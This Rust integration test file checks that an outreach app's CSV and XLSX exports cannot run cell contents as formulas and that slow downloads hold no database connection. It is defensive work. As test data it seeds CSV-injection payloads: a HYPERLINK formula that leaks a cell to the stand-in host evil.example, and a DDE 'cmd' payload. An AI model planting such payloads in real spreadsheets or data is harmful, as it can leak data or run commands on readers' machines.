//! Exports that cannot be turned against their readers or the server: no CSV cell runs as
//! a formula, the workbook holds text as text, and slow downloads hold no connection.

use std::io::Cursor;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use calamine::{Data, Reader, Xlsx};
use outreach::domain::types::Role;
use serde_json::json;

use crate::both;
use crate::fixtures::{attend, event};
use crate::harness::TestApp;

const QUOTE: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Amazing show\")";

async fn download(app: &TestApp, path: &str) -> (StatusCode, Vec<u8>) {
    let req = Request::builder()
        .uri(format!("/api/v1{path}"))
        .header(
            header::AUTHORIZATION,
            format!("Bearer {}", app.seeded(Role::Funder).token),
        )
        .body(Body::empty())
        .unwrap();
    let (s, _, body) = app.send(req).await;
    (s, body)
}

/// A programme whose school, venue, group and quote all begin like formulas.
async fn hostile_programme(app: &TestApp) -> i64 {
    let admin = Some(Role::Admin);
    let (_, school) = app
        .post(
            "/schools",
            admin,
            json!({"name": "=cmd|' /C calc'!A0", "district": "+Lakes", "urn": 123456}),
        )
        .await;
    let school = school["id"].as_i64().unwrap();
    let (_, venue) = app
        .post(
            "/venues",
            admin,
            json!({"name": "@Brewery", "capacity": 200}),
        )
        .await;
    let venue = venue["id"].as_i64().unwrap();
    let (_, p) = app
        .post(
            "/programmes",
            admin,
            json!({"title": "Ruby", "year": 2018, "organisation_id": app.organisation_id}),
        )
        .await;
    let programme = p["id"].as_i64().unwrap();
    let show = event(app, programme, json!({"kind": "performance", "venue_id": venue, "starts_at": "2018-03-01T18:00:00Z", "ends_at": "2018-03-01T19:30:00Z"})).await;
    attend(
        app,
        show,
        json!([
            {"school_id": school, "pupils": 40, "staff": 4, "other": 0},
            {"group": "-public", "pupils": 0, "staff": 0, "other": 30}
        ]),
    )
    .await;
    let (s, _) = app
        .post(
            &format!("/events/{show}/complete"),
            Some(Role::Lead),
            json!({}),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (s, f) = app
        .post(
            "/feedback",
            Some(Role::Lead),
            json!({"programme_id": programme, "event_id": show, "school_id": school,
                   "role": "teacher", "quote": QUOTE, "rating": 5, "consent": true}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{f}");
    let (s, _) = app
        .post(
            &format!("/feedback/{}/moderate", f["id"]),
            Some(Role::Lead),
            json!({"moderation": "approved"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    programme
}

both!(no_csv_cell_can_run_as_a_formula);
async fn no_csv_cell_can_run_as_a_formula(app: TestApp) {
    let programme = hostile_programme(&app).await;
    let mut seen_quote = false;
    for table in ["schools", "events", "attendance", "feedback"] {
        let (s, body) =
            download(&app, &format!("/programmes/{programme}/export/{table}.csv")).await;
        assert_eq!(s, StatusCode::OK, "{table}");
        let mut reader = csv::Reader::from_reader(body.as_slice());
        let headers = reader.headers().unwrap().clone();
        let mut rows = 0;
        for record in reader.records() {
            let record = record.unwrap();
            rows += 1;
            for (name, cell) in headers.iter().zip(record.iter()) {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{table}.{name} = {cell:?}"
                );
                if ["pupils", "staff", "other_adults", "audience", "urn"].contains(&name)
                    && !cell.is_empty()
                {
                    assert!(
                        cell.parse::<i64>().is_ok(),
                        "{table}.{name} is a number: {cell:?}"
                    );
                }
            }
            if table == "feedback" {
                assert_eq!(&record[6], format!("'{QUOTE}"));
                seen_quote = true;
            }
        }
        assert!(rows > 0, "{table} has rows");
    }
    assert!(seen_quote);
}

both!(workbook_keeps_formula_like_text_as_text);
async fn workbook_keeps_formula_like_text_as_text(app: TestApp) {
    let programme = hostile_programme(&app).await;
    let (s, bytes) = download(&app, &format!("/programmes/{programme}/impact.xlsx")).await;
    assert_eq!(s, StatusCode::OK);
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{name} holds a formula"
        );
    }
    let feedback = book.worksheet_range("Feedback").unwrap();
    assert!(
        feedback
            .rows()
            .any(|r| r.iter().any(|c| *c == Data::String(QUOTE.to_string()))),
        "the quote is there, word for word, as text"
    );
    let schools = book.worksheet_range("Schools").unwrap();
    assert!(schools
        .rows()
        .any(|r| r[0] == Data::String("=cmd|' /C calc'!A0".into())));
}

both!(slow_downloads_hold_no_database_connection);
async fn slow_downloads_hold_no_database_connection(app: TestApp) {
    let programme = app
        .with_db(|c| {
            outreach::domain::synthetic::generate(c, 2000, 40, &|_, _| {})
                .unwrap()
                .programme_id
        })
        .await;
    // More downloads than the pool has connections, none of them read.
    let mut unread = Vec::new();
    for _ in 0..10 {
        let req = Request::builder()
            .uri(format!(
                "/api/v1/programmes/{programme}/export/attendance.csv"
            ))
            .header(
                header::AUTHORIZATION,
                format!("Bearer {}", app.seeded(Role::Admin).token),
            )
            .body(Body::empty())
            .unwrap();
        let response = tower::ServiceExt::oneshot(app.router.clone(), req)
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        let size: u64 = response.headers()[header::CONTENT_LENGTH]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        assert!(size > 1_200_000, "a large file: {size} bytes");
        unread.push(response);
    }
    let (s, _, _) = app.page("/readyz", None).await;
    assert_eq!(s, StatusCode::OK);
    let (s, me) = app.get("/me", Some(Role::School)).await;
    assert_eq!(s, StatusCode::OK, "{me}");
    drop(unread);
}
